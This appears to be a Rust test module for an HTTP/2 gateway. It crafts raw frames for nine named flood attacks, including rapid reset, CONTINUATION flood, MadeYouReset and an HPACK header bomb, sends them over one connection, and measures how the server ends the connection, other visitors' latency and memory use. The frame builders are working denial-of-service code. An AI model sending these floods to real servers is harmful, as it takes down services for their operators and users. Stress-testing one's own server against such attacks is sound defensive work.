//! Floods of HTTP/2 frames, written raw: no client library would send them. Each is a class of attacks that had a
//! name once (rapid reset, CONTINUATION flood, MadeYouReset, …).

use crate::visitor::{get, http1, nothing, request, send_over};
use std::io;
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    RapidReset,
    Continuation,
    MadeYouReset,
    Ping,
    Settings,
    EmptyData,
    HeaderBomb,
    Priority,
    ManyStreams,
}

pub const FLOODS: [Flood; 9] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::MadeYouReset,
    Flood::Ping,
    Flood::Settings,
    Flood::EmptyData,
    Flood::HeaderBomb,
    Flood::Priority,
    Flood::ManyStreams,
];

/// How the gateway ended it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FloodEnd {
    GoAway(u32),
    Closed,
    StillOpen,
}

#[derive(Debug)]
pub struct Flooded {
    pub end: FloodEnd,
    /// Frames that were sent until it ended.
    pub frames: usize,
    pub took: Duration,
}

/// How a connection with prior knowledge begins, and no settings but the usual (RFC 9113, 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RESET: u8 = 3;
pub const GO_AWAY: u8 = 7;
pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header that no table knows, and none keeps (RFC 7541, 6.2.2).
pub fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let text = |text: &[u8]| [&[u8::try_from(text.len()).unwrap()], text].concat();
    [vec![0], text(name), text(value)].concat()
}

/// The header block of a request, of a method in HPACK's static table (RFC 7541, A).
fn block(method: u8, host: &str) -> Vec<u8> {
    let length = u8::try_from(host.len()).unwrap();
    [&[method, 0x84, 0x86, 0x01, length], host.as_bytes()].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

impl Flood {
    pub fn word(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION",
            Self::MadeYouReset => "MadeYouReset",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::EmptyData => "empty DATA",
            Self::HeaderBomb => "HPACK bomb",
            Self::Priority => "PRIORITY",
            Self::ManyStreams => "more streams than allowed",
        }
    }

    /// The frames of one step; the first is number 0.
    fn step(self, number: u32, host: &str) -> Vec<u8> {
        let stream = 1 + 2 * number;
        let open = |method, flags| frame(HEADERS, flags | END_HEADERS, stream, &block(method, host));
        match (self, number) {
            (Self::RapidReset, _) => [open(GET, END_STREAM), frame(3, 0, stream, &8_u32.to_be_bytes())].concat(),
            (Self::Continuation, 0) => frame(HEADERS, END_STREAM, 1, &block(GET, host)),
            // A header of its own that is never indexed.
            (Self::Continuation, _) => frame(9, 0, 1, b"\x10\x01x\x01y"),
            // A window update of zero is an error of the stream: the server resets it.
            (Self::MadeYouReset, _) => [open(POST, 0), frame(8, 0, stream, &[0; 4])].concat(),
            (Self::Ping, _) => frame(6, 0, 0, &[7; 8]),
            (Self::Settings, _) => frame(4, 0, 0, &[]),
            (Self::EmptyData, 0) => open(POST, 0),
            (Self::EmptyData, _) => frame(0, 0, 1, &[]),
            // One large header goes into the table, and is then named by one byte each.
            (Self::HeaderBomb, _) => {
                let large = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4000]].concat();
                let block = [block(GET, host), large, vec![0xbe; 12_000]].concat();
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
            }
            (Self::Priority, _) => frame(2, 0, stream, &[0, 0, 0, 0, 1]),
            (Self::ManyStreams, _) => open(POST, 0),
        }
    }
}

/// Sends so many steps of a flood over one connection, in clear, and reads what comes back.
pub async fn flood(address: SocketAddr, host: &str, flood: Flood, steps: u32) -> Flooded {
    let mut socket = TcpStream::connect(address).await.unwrap();
    socket.write_all(PREFACE).await.unwrap();
    let started = Instant::now();
    let (reader, mut writer) = socket.into_split();
    let watching = tokio::spawn(until_goaway(reader));
    let mut frames = 0;
    let sending = async {
        for number in 0..steps {
            if watching.is_finished() || writer.write_all(&flood.step(number, host)).await.is_err() {
                break;
            }
            frames += 1;
        }
    };
    let _ = tokio::time::timeout(crate::LIMIT, sending).await;
    let end = tokio::time::timeout(Duration::from_secs(2), watching).await;
    Flooded { end: end.map_or(FloodEnd::StillOpen, Result::unwrap), frames, took: started.elapsed() }
}

async fn until_goaway(mut reader: tokio::net::tcp::OwnedReadHalf) -> FloodEnd {
    loop {
        let Ok((kind, payload)) = next_frame(&mut reader).await else { return FloodEnd::Closed };
        if kind == GO_AWAY {
            let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map_or(0, u32::from_be_bytes);
            return FloodEnd::GoAway(code);
        }
    }
}

/// Kind and payload of the next frame.
pub async fn next_frame(reader: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, Vec<u8>)> {
    let mut header = [0; 9];
    reader.read_exact(&mut header).await?;
    let mut payload = vec![0; usize::from(header[0]) << 16 | usize::from(header[1]) << 8 | usize::from(header[2])];
    reader.read_exact(&mut payload).await?;
    Ok((header[3], payload))
}

/// How long another visitor waits, in the median and at the 99th of 100 requests.
pub async fn waits(address: SocketAddr, host: &str, requests: usize) -> (Duration, Duration) {
    let mut sender = http1(address).await;
    get(address, host, "/").await;
    let mut waits = Vec::new();
    for _ in 0..requests {
        let started = Instant::now();
        send_over(&mut sender, request(host, "/").body(nothing()).unwrap()).await;
        waits.push(started.elapsed());
    }
    waits.sort_unstable();
    (waits[waits.len() / 2], waits[waits.len() * 99 / 100])
}

/// Bytes of this process in memory.
pub fn resident() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.trim().trim_end_matches(" kB").trim().parse::<u64>().unwrap() * 1024
}
